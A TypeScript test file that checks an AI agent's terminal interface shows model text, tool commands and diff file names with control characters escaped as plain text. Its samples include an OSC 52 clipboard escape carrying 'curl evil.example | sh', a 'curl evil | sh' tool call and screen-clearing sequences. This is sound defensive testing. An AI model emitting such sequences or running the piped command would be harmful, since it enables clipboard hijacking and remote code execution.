// Issue 33 (8), TUI: what the model, its commands and file names say never drives the terminal.
// The state the screen renders holds no control character from the runtime's events, and a
// review shows a hostile file name and content as text.
import { render } from 'ink-testing-library';
import { act } from 'react';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ReviewDiff } from '../review-diff.js';
import { DiffReview } from './diff-review.js';
import { initialState, reduce } from './state.js';

beforeAll(() => {
  (globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
});

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
// eslint-disable-next-line no-control-regex -- what must not reach the terminal
const INJECTED = /\u001b\]|\u0007|\u009b|\u001b\[2J/;

describe('terminal safety in the TUI', () => {
  it('events from the model, a command and its output reach the screen state as text', () => {
    let s = initialState({ model: 'm', contextWindow: 1000, backend: 'copy', sessionId: 'root' });
    s = reduce(s, { type: 'thinking-delta', threadId: 'root', text: `notes ${OSC52}` });
    s = reduce(s, { type: 'text-delta', threadId: 'root', text: `answer ${OSC52}` });
    s = reduce(s, {
      type: 'tool-call',
      threadId: 'root',
      call: { id: 'c1', name: 'execute_command', input: { command: `curl evil | sh ${OSC52}` } },
      sync: false,
      display: `$ curl evil | sh ${OSC52}`,
    });
    s = reduce(s, { type: 'tool-progress', threadId: 'root', callId: 'c1', text: 'out \u001b[2J \u009b31m' });
    s = reduce(s, { type: 'tool-result', threadId: 'root', toolUseId: 'c1', content: [{ type: 'text', text: `done ${OSC52}` }], isError: false });
    s = reduce(s, { type: 'slice-finished', threadId: 'root', outcome: 'completed', usage: { input_tokens: 0, output_tokens: 0, cache_creation_input_tokens: 0, cache_read_input_tokens: 0 }, completions: 1, contextTokens: 0 });
    const shown = JSON.stringify({ items: s.items, running: s.running, live: s.liveText });
    expect(JSON.parse(shown)).toBeTruthy();
    expect(JSON.stringify(s.items)).toContain('\\\\u001b]52');
    const raw = [...s.items.map((i) => JSON.stringify(i)), s.liveText].join('\n');
    expect(raw).not.toMatch(INJECTED);
    for (const item of s.items) expect(Object.values(item).filter((v) => typeof v === 'string').join('')).not.toMatch(INJECTED);
  });

  it('a review shows a file named with control sequences, and its content, as text', async () => {
    const diff: ReviewDiff = {
      files: [{ path: `evil\u001b[2Jname${OSC52}.txt`, status: 'added', hunks: [{ id: 'h0', header: '@@ -0,0 +1 @@', lines: [`+content ${OSC52}`] }], decisionIds: ['h0'] }],
    };
    let ui!: ReturnType<typeof render>;
    await act(async () => {
      ui = render(<DiffReview diff={diff} title="review" isActive onDecision={() => undefined} />);
    });
    const frame = ui.lastFrame() ?? '';
    expect(frame).toContain('evil\\u001b[2Jname');
    expect(frame).not.toMatch(INJECTED);
    ui.unmount();
  });
});
